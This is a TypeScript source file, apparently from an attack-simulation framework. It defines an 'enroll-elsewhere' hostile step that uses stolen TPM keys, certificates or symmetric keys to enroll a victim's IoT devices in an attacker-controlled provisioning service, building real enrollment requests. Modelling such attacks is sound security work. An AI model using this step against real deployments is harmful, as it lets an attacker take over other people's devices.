import { z } from 'zod';
import { toPem } from '../../../core/x509/der/pem.ts';
import { reference } from '../../scenario/words/words.ts';
import type { Attacker, Target } from '../attacker.ts';
import { hostileStep } from '../hostile-step.ts';
import type { Loot } from '../loot.ts';
import { policyToken } from '../policy-token.ts';
import type { OwnService } from '../wires.ts';

/** Enrolls devices of the victim at another tenant. The attacker needs no secret for most attestation types. */
export const enrollElsewhereStep = hostileStep({
  name: 'enroll-elsewhere',
  summary: 'An attacker enrolls devices of the customer in another DPS instance, over its service API.',
  args: z.strictObject({
    device: reference('device', 'Device or fleet that the attacker enrolls.'),
    service: reference('stranger', 'DPS instance of the attacker, one of `cloud: strangers`.'),
    with: reference(
      'loot',
      'Credentials for the enrollment: public keys of a TPM or certificates, from steal-key with `publicKeys: true`, or a symmetric key.',
    ),
  }),
  run: async (attacker, words) => {
    const service = attacker.wires.ownService(words.service);
    if (service === undefined)
      return attacker.refuse(`no other DPS instance is called "${words.service}"; add it under \`cloud: strangers:\``);
    const loot = attacker.held(words.with);
    for (const { path, body, of } of enrollmentsFor(attacker, await attacker.targets(words.device), loot)) {
      const { status } = await put(attacker, service, path, body);
      attacker.tell(of, `the DPS instance ${words.service} answers ${status} to the enrollment of this device`);
    }
  },
});

interface Written {
  /** Path in the service API, without the query string. */
  readonly path: string;
  readonly body: object;
  readonly of: string;
}

/** Returns one enrollment group if the loot contains a CA certificate. Otherwise returns one individual enrollment for each target. */
function enrollmentsFor(attacker: Attacker, targets: readonly Target[], loot: Loot): readonly Written[] {
  if (loot.kind === 'public-chain' && loot.certificates.length > 1) {
    const [, ca] = loot.certificates.map(toPem);
    const signingCertificates = { primary: { certificate: ca } };
    const attestation = { type: 'x509', x509: { signingCertificates } };
    const enrollmentGroupId = 'not-mine';
    const body = { enrollmentGroupId, attestation };
    return [{ path: `/enrollmentGroups/${enrollmentGroupId}`, body, of: targets.map(({ name }) => name).join(', ') }];
  }
  const attestation = attestationFrom(attacker, loot);
  return targets.map(({ name, registrationId }) => ({
    path: `/enrollments/${encodeURIComponent(registrationId)}`,
    body: { registrationId, attestation },
    of: name,
  }));
}

function attestationFrom(attacker: Attacker, loot: Loot): object {
  if (loot.kind === 'public-chain') {
    const [certificate] = loot.certificates.map(toPem);
    return { type: 'x509', x509: { clientCertificates: { primary: { certificate } } } };
  }
  if (loot.kind === 'public-keys') {
    return { type: 'tpm', tpm: { endorsementKey: loot.endorsementKey.toString('base64') } };
  }
  if (loot.kind === 'symmetric-key') {
    const key = loot.key.toString('base64');
    return { type: 'symmetricKey', symmetricKey: { primaryKey: key, secondaryKey: key } };
  }
  return attacker.refuse(
    `the loot has the kind ${loot.kind}, but public keys, certificates or a symmetric key are expected; take them with steal-key`,
  );
}

function put(attacker: Attacker, service: OwnService, path: string, body: object) {
  const { host } = service;
  const token = policyToken(attacker, host, service);
  return attacker.wires.request({ host, method: 'PUT', path: `${path}?api-version=2021-10-01`, body, token });
}
